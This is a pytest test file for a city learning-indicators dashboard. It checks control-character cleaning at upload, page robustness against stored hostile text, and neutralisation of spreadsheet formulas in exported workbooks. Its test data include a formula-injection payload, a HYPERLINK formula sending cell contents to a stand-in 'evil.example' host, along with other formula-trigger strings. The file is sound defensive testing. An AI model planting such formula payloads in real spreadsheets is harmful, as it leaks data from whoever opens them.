"""Hostile text in uploads (issue 16, items 10 and 12): control characters are cleaned at ingest and no page
fails on text a database already holds; text that a spreadsheet would run as a formula is neutralised in
every workbook the project writes — the templates' lists sheet included —, and the templates are made
from the command line too."""

from __future__ import annotations

import io

import pytest
from conftest import PROJECT, run_cli
from openpyxl import load_workbook
from streamlit.testing.v1 import AppTest

from indicators.base.errors import Problem
from indicators.ingest import ingest_files
from indicators.present.exports import export_bytes
from indicators.present.exports.context import make_context
from indicators.present.exports.tables import to_xlsx
from indicators.present.problem_export import problems_xlsx
from indicators.present.templates import KINDS, template_workbook
from indicators.store import accounts, open_database
from indicators.store.accounts import Actor
from tests.bad_inputs import HEADER, csv_text

CITY = "Hostile City"
CONTROL = "".join(chr(c) for c in (*range(1, 9), 11, 12, *range(14, 32), 127, 0x85, 0x9F))
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "\t=1+1", "+SUM(1,2)", "-2+3", "@SUM(1)",
            "\r=1+1"]
PAGES = ["pages/overview.py", "pages/key_features.py", "pages/districts.py", "pages/district_map.py",
         "pages/learning_index.py", "pages/scorecard.py", "pages/data_quality.py", "pages/cities.py",
         "pages/methodology.py", "pages/indicator.py", "pages/present.py", "pages/upload.py", "pages/rules.py",
         "pages/evidence.py", "pages/history.py"]


def hostile_csv(tmp_path):
    rows = [HEADER, ["A-1", "Read\x07ing club", "North\x01", "15/01/2567", 1, 2, 30, 18, 12],
            ["A-2", FORMULAS[0].replace(",", " "), "=1+1", "03/02/2567", 2, 6, 25, 15, 10],
            ["A-3", "Tree\x1bplanting", "South\x7f", "15/03/2567", 1, 3, 40, 20, 20]]
    path = tmp_path / "hostile.csv"
    path.write_bytes(csv_text(rows).encode())
    return path


def test_control_characters_are_cleaned_at_ingest(con, tmp_path):
    outcome = ingest_files(con, [hostile_csv(tmp_path)], CITY)
    assert outcome.status == "committed", [(p.code, p.message_en) for p in outcome.problems]
    stored = [value for row in con.execute("SELECT title, district, sheet FROM activities").fetchall() for value in row]
    stored += [value for row in con.execute("SELECT file_name, source FROM uploads").fetchall() for value in row]
    assert not [v for v in stored if v and any(c in v for c in CONTROL)], stored
    assert {"North", "South", "=1+1"} <= set(stored) and "Reading club" in stored


def test_control_characters_in_sheet_and_file_names_are_cleaned(con, tmp_path):
    path = tmp_path / "x.csv"
    path.write_bytes(csv_text([HEADER, ["A-1", "Club", "North", "15/01/2567", 1, 2, 3, 2, 1]]).encode())
    outcome = ingest_files(con, [("report\x01\x1b.csv", path.read_bytes())], CITY)
    assert outcome.status == "committed"
    names = con.execute("SELECT file_name FROM uploads").fetchall() + con.execute("SELECT sheet FROM activities").fetchall()
    assert names and all(not any(c in name for c in CONTROL) for (name,) in names), names


@pytest.fixture
def hostile_db(tmp_path, monkeypatch):
    """A database that already holds control characters and formulas — as one written before the
    cleaning did — in every text column a page shows."""
    path = tmp_path / "hostile.duckdb"
    con = open_database(path)
    accounts.add_user(con, "adam", "admin", "battery staple")
    assert ingest_files(con, [hostile_csv(tmp_path)], CITY).status == "committed"
    dirty = "Nor\x01th\x0b" + FORMULAS[1]
    con.execute("UPDATE activities SET district = ?, title = title || ?, category = ?, organiser = ?",
                [dirty, "\x02", FORMULAS[0], "\x1f=1+1"])
    con.execute("UPDATE participation SET district = ?", [dirty])
    con.execute("UPDATE uploads SET file_name = ?, source = ?", ["bad\x01name.csv", "src\x02"])
    con.execute("INSERT INTO problems (upload_id, severity, code, file, sheet, row, \"column\", value, message_en, "
                "message_th) VALUES (1, 'warning', 'long_text', 'f\x01', 's\x02', 2, 'c\x03', '=1+1\x04', 'm\x05', 'ม\x06')")
    con.execute("INSERT INTO evidence VALUES (?, '2.1', 2024, ?, ?, '[]', 'x', now(), 1)",
                [CITY, "narr\x01ative =1+1", "เรื่อง\x02"])
    con.close()
    monkeypatch.setenv("LEARNING_CITY_DB", str(path))
    return path


@pytest.mark.parametrize("page", PAGES)
def test_no_page_fails_on_stored_text(hostile_db, page):
    at = AppTest.from_file(str(PROJECT / "dashboard.py"), default_timeout=180)
    at.session_state["lang"], at.session_state["city"] = "en", CITY
    at.session_state["actor"] = Actor("adam", "admin")
    at.switch_page(page)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    assert not [e.value for e in at.error if "went wrong" in e.value or "ผิดพลาด" in e.value]


def formula_cells(data: bytes) -> list[str]:
    """Every cell of every sheet that a spreadsheet would run: a formula, or text starting like one."""
    found = []
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(tuple("=+-@\t\r"))):
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return found


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("lang", ["th", "en"])
def test_templates_lists_sheet_holds_no_live_formula_and_no_control_character(kind, lang):
    data = template_workbook(kind, lang, districts=[*FORMULAS, "North\x01"], categories=FORMULAS,
                             measures=FORMULAS)
    assert formula_cells(data) == []
    lists = load_workbook(io.BytesIO(data))["_lists"]
    written = {cell.value for row in lists.iter_rows() for cell in row if cell.value}
    assert "'" + FORMULAS[0] in written and "North" in written


def test_every_workbook_the_project_writes_is_neutralised(hostile_db):
    con = open_database(hostile_db)
    try:
        context = make_context(con, CITY, lang="en", era="ce")
        pack = export_bytes(con, context, ".xlsx")
        from indicators.measure.compute import compute_values

        values = compute_values(con, CITY, by=("year", "district"))
        downloads = to_xlsx(values, context, "full")
    finally:
        con.close()
    problems = problems_xlsx([Problem("error", "not_a_number", "'=1+1' bad\x01", "ไม่ใช่\x02", "f\x03.xlsx", "s",
                                      2, "=col", "=HYPERLINK(\"x\")\x04")])
    for name, data in (("GNLC pack", pack), ("data download", downloads), ("problems", problems)):
        assert formula_cells(data) == [], name


def test_cli_template_command_writes_the_upload_pages_template_for_a_city(tmp_path, hostile_db):
    out = tmp_path / "template.xlsx"
    code, stdout, err = run_cli("template", "--kind", "activities", "--city", CITY, "--out", str(out), "--lang", "th",
                                env_db=hostile_db)
    assert code == 0, err
    book = load_workbook(out)
    assert book.active["A1"].value == "รหัสกิจกรรม"  # Thai headers with --lang th
    districts = [row[0].value for row in book["_lists"].iter_rows(min_row=2, max_col=1) if row[0].value]
    assert districts and all(not any(c in d for c in CONTROL) for d in districts)
    assert formula_cells(out.read_bytes()) == []
    code, _, err = run_cli("template", "--kind", "outcomes", "--out", str(tmp_path / "en.xlsx"), "--lang", "en",
                           env_db=hostile_db)
    assert code == 0, err
    assert load_workbook(tmp_path / "en.xlsx").active["A1"].value == "Activity code"
    code, _, err = run_cli("template", "--kind", "nonsense", "--out", str(tmp_path / "x.xlsx"), env_db=hostile_db)
    assert code == 2 and "Traceback" not in err
